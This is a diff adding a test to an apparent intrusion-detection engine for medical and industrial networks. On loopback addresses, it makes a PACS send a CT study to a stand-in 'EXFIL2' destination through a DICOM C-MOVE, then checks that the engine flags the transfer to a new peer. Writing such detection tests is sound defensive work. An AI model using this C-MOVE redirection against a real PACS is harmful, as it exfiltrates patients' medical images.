@@ -261,3 +261,73 @@ def test_mqtt_anonymous_connect_and_wildcard_subscription(tmp_path: Path) -> Non
     wc = by["mqtt.wildcard_subscription"]
     assert wc.device_id == "ip:127.0.7.30" and wc.detail["filters"] == "#"
     assert wc.severity == "high" and wc.technique_id == "T0801"
+
+
+def test_dicom_c_move_to_a_new_destination(tmp_path: Path) -> None:
+    """A C-MOVE naming a move destination never seen: the PACS pushes studies to it."""
+    pytest.importorskip("pynetdicom")
+    from pydicom import dcmread
+    from pydicom.data import get_testdata_file
+    from pydicom.dataset import Dataset
+    from pynetdicom import AE, StoragePresentationContexts, evt
+    from pynetdicom.sop_class import StudyRootQueryRetrieveInformationModelMove
+
+    ct = dcmread(get_testdata_file("CT_small.dcm"))
+    where = {"VIEWER": ("127.0.8.20", 11120), "EXFIL2": ("127.0.8.99", 11121)}
+
+    def on_move(event):  # PS3.4 C.4.2.2: the SCP resolves the destination, then sub-operations
+        dest = (
+            event.move_destination.decode().strip()
+            if isinstance(event.move_destination, bytes)
+            else event.move_destination.strip()
+        )
+        yield where[dest]
+        yield 1
+        yield 0xFF00, ct
+
+    pacs = AE(ae_title="PACS")
+    pacs.add_supported_context(StudyRootQueryRetrieveInformationModelMove)
+    pacs.requested_contexts = StoragePresentationContexts
+    scp = pacs.start_server(
+        ("127.0.8.10", 11119), block=False, evt_handlers=[(evt.EVT_C_MOVE, on_move)]
+    )
+    sinks = [_storage_scp(ae, *addr) for ae, addr in where.items()]
+
+    def move(dest: str) -> None:
+        ae = AE(ae_title="WS1")
+        ae.add_requested_context(StudyRootQueryRetrieveInformationModelMove)
+        assoc = ae.associate("127.0.8.10", 11119, ae_title="PACS", bind_address=("127.0.8.11", 0))
+        assert assoc.is_established
+        q = Dataset()
+        q.QueryRetrieveLevel = "STUDY"
+        q.StudyInstanceUID = ct.StudyInstanceUID
+        statuses = [
+            s.Status
+            for s, _ in assoc.send_c_move(q, dest, StudyRootQueryRetrieveInformationModelMove)
+            if s
+        ]
+        assoc.release()
+        assert statuses[-1] == 0x0000
+
+    try:
+        learn = tmp_path / "learn.pcap"
+        with tcpdump(learn, "net 127.0.8.0/24 and tcp"):
+            move("VIEWER")
+        attack = tmp_path / "attack.pcap"
+        with tcpdump(attack, "net 127.0.8.0/24 and tcp"):
+            move("VIEWER")
+            move("EXFIL2")
+    finally:
+        scp.shutdown()
+        for s in sinks:
+            s.shutdown()
+    engine = _engine()
+    assert _run(engine, learn, learning=True)[0] == []
+    alerts, _ = _run(engine, attack, learning=False)
+    moves = {
+        a.detail["destination"]: a for a in alerts if a.rule_id == "dicom.transfer_to_new_peer"
+    }
+    assert set(moves) == {"EXFIL2@move", "EXFIL2@127.0.8.99"}
+    assert moves["EXFIL2@move"].device_id == "ip:127.0.8.10"  # the PACS sends the studies
+    assert moves["EXFIL2@move"].detail["command"] == "C-MOVE-RQ"
+    assert moves["EXFIL2@127.0.8.99"].detail["command"] == "C-STORE-RQ"
